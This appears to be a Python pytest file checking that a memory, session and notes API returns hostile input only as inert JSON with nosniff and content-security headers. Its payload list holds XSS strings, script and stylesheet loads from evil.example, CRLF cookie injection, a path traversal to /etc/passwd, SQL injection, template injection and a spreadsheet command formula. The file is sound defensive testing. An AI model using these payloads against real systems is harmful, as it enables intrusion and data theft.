"""Hostile texts in memories, sessions and notes come out as they are, in JSON that no browser takes for a page."""

from __future__ import annotations

import asyncio
import json
import re

import pytest

LONG = "A" * 1_000_000
TEXTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script src=//evil.example/x.js></script>',
    "';alert(String.fromCharCode(88,83,83))//",
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href='https://evil.example/?token='>token</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=x></form>",
    "<object data=//evil.example></object>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "</script><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u202egnp.exe\u202c \u2066isolated\u2069",
    "\u200b\u200c\u200d\ufeff hidden",
    "e\u0301" + "\u0301" * 500,
    "\ud800 alone",
    "\x00 nul \x1b[31m red \x07 \x08",
    "\r\nSet-Cookie: token=1\r\n\r\n<html>",
    "%0d%0aSet-Cookie:%20x=1",
    "../../../../etc/passwd",
    "'; DROP TABLE memories; --",
    '" OR 1=1 --',
    '* NEAR(a b) AND -c : "',
    "=cmd|' /C calc'!A0",
    "event: changed\ndata: {}\n\n",
    "\U0001f3f4\U000e0067\U000e0062 \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u2028line\u2029para __proto__ constructor",
    LONG,
]
NAMES = [f"{number}" for number in range(len(TEXTS))]
assert len(TEXTS) > 40


def as_stored(text):
    return re.sub("[\ud800-\udfff]", "\ufffd", text)


def checked(answer):
    """A browser that is shown this takes it for JSON and nothing else."""
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "script-src 'self'" in answer.headers["content-security-policy"]
    assert "set-cookie" not in answer.headers
    return json.loads(answer.content.decode("utf-8"))


@pytest.mark.parametrize("text", TEXTS, ids=NAMES)
def test_in_a_session(asking, text):
    asking.claude_session(made=[(("ask", text), ("turn", [(False, [(text[:500], text)], text)]))])
    listed = checked(asking.ask("GET", "/api/v1/sessions"))["items"]
    name = listed[0]["id"]
    checked(asking.ask("GET", f"/api/v1/sessions/{name}"))
    shown = checked(asking.ask("GET", f"/api/v1/sessions/{name}/messages"))["items"]
    assert shown[0]["text"] == as_stored(text)[:4_000]
    whole = checked(asking.ask("GET", f"/api/v1/sessions/{name}/messages/0"))
    assert whole["text"] == as_stored(text)
    body = {"target": 2_000, "focus": as_stored(text)[:500]}
    checked(asking.ask("POST", f"/api/v1/sessions/{name}/condense", json=body))
    checked(asking.ask("GET", f"/api/chat/history?thread_id={name}"))


@pytest.mark.parametrize("text", [text for text in TEXTS if text is not LONG and "\ud800" not in text])
def test_in_a_memory_and_in_notes(asking, text):
    body = json.dumps({"content": text}).encode()  # lone surrogates as escapes
    headers = {"content-type": "application/json"}
    made = checked(asking.ask("POST", "/api/v1/memories", content=body, headers=headers))
    assert as_stored(made["content"]).strip() in as_stored(text)
    listed = checked(asking.ask("GET", "/api/v1/memories"))["items"]
    assert [one["content"] for one in listed] == [made["content"]]
    found = asking.ask("GET", "/api/v1/memories", params={"q": as_stored(text)[:1_000]})
    checked(found)
    checked(asking.ask("GET", "/api/v1/graph"))
    note = checked(asking.ask("PUT", "/api/v1/notes", content=body, headers=headers))
    assert note["etag"]
    content = checked(asking.ask("GET", "/api/v1/notes"))["content"]
    assert content.strip("\n\r") in as_stored(text).replace("\x00", "").strip("\n\r")
    checked(asking.ask("GET", "/api/v1/notes/search", params={"q": as_stored(text)[:1_000]}))


@pytest.mark.parametrize("text", [text for text in TEXTS if text is not LONG and "\ud800" not in text])
@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/memories/{}",
        "/api/v1/sessions/{}",
        "/api/v1/records/{}",
        "/api/v1/originals/{}",
        "/api/v1/{}",
        "/static/{}",
    ],
)
def test_in_an_address(asking, text, path):
    from urllib.parse import quote

    answer = asking.ask("GET", path.format(quote(text, safe="")))
    assert answer.status_code in (400, 404, 405)
    assert "html" not in answer.headers.get("content-type", "")
    assert answer.headers["x-content-type-options"] == "nosniff"
    page = asking.ask("GET", "/", params={"lang": text[:500], "token_": text[:500]}).text
    assert text not in page or len(text) < 3


def test_the_first_page_tells_no_text_of_the_caller(asking):
    for text in TEXTS[:20]:
        answer = asking.ask(
            "GET", "/", bare=True, params={"lang": text, "x": text}, headers={"accept-language": "<b>"}
        )
        assert answer.status_code == 401
        assert text not in answer.text


def test_half_a_character_in_a_body_is_refused(asking):
    headers = {"content-type": "application/json"}
    answer = asking.ask("POST", "/api/v1/memories", content=b'{"content": "\\ud800"}', headers=headers)
    assert answer.status_code == 400
    assert checked(answer)["error"]["where"] == "body.content"


@pytest.mark.parametrize("text", ["<script>alert(1)</script>", "\u202eevil"])
def test_in_an_event(asking, text):
    events, queue = asking.panel.events, asyncio.Queue(5)
    events._pages.add(queue)
    events._tell(f"{text}\n\nevent: x", "memories")
    lines = queue.get_nowait().encode().decode().split("\r\n")
    assert [line.partition(":")[0] for line in lines if line] == ["event", "data"]
    assert json.loads(lines[1].partition(": ")[2])["project"] == f"{text}\n\nevent: x"
